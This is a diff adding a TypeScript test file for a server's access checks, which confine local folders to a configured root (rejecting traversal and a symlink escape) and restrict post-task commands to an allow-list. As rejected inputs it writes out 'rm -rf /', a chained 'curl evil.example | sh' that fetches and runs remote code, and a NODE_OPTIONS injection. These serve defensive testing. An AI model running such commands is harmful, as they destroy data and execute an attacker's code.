@@ -0,0 +1,52 @@
+import { test, beforeEach } from "node:test";
+import assert from "node:assert/strict";
+import { mkdirSync, symlinkSync, writeFileSync } from "fs";
+import { join } from "path";
+import { useTemporaryDataDir } from "./helpers.js";
+import { localFolderRefusal, postTasksRefusal } from "../server/services/server-access.js";
+import type { PostTask } from "../server/services/post-tasks.js";
+
+const dataDir = useTemporaryDataDir();
+const root = join(dataDir, "repos");
+mkdirSync(join(root, "widgets"), { recursive: true });
+mkdirSync(join(dataDir, "elsewhere"));
+symlinkSync(join(dataDir, "elsewhere"), join(root, "escape"));
+process.env.POST_TASKS_FILE = join(dataDir, "post-tasks.json");
+writeFileSync(process.env.POST_TASKS_FILE, JSON.stringify({ commands: ["npm test"] }));
+
+const task = (fields: Partial<PostTask>): PostTask => ({ id: "t1", name: "Tests", command: "npm test", ...fields });
+
+beforeEach(() => {
+  process.env.OIDC_ISSUER = "https://login.example.com";
+  process.env.LOCAL_FOLDERS_ROOT = root;
+});
+
+test("without sign-in, any folder and command is allowed", () => {
+  delete process.env.OIDC_ISSUER;
+  assert.equal(localFolderRefusal("/"), null);
+  assert.equal(postTasksRefusal([task({ command: "rm -rf /", env: { NODE_OPTIONS: "--require ./x.js" } })]), null);
+});
+
+test("with sign-in, only folders under LOCAL_FOLDERS_ROOT are allowed", () => {
+  assert.equal(localFolderRefusal(join(root, "widgets")), null);
+  assert.equal(localFolderRefusal(root), null);
+  for (const path of [dataDir, join(root, "widgets", "..", ".."), join(root, "escape")]) {
+    assert.equal(localFolderRefusal(path), `Only folders under ${root} can be used`, path);
+  }
+
+  delete process.env.LOCAL_FOLDERS_ROOT;
+  assert.match(localFolderRefusal(join(root, "widgets"))!, /Local folders are off while sign-in is on/);
+});
+
+test("with sign-in, post tasks run only listed commands, without their own environment", () => {
+  assert.equal(postTasksRefusal([task({})]), null);
+  assert.match(postTasksRefusal([task({}), task({ command: "npm test; curl evil.example | sh" })])!, /not in .*post-tasks\.json/);
+  assert.match(postTasksRefusal([task({ env: { NODE_OPTIONS: "--require ./x.js" } })])!, /sets environment variables/);
+
+  process.env.POST_TASKS_FILE = join(dataDir, "missing.json");
+  try {
+    assert.match(postTasksRefusal([task({})])!, /not in/);
+  } finally {
+    process.env.POST_TASKS_FILE = join(dataDir, "post-tasks.json");
+  }
+});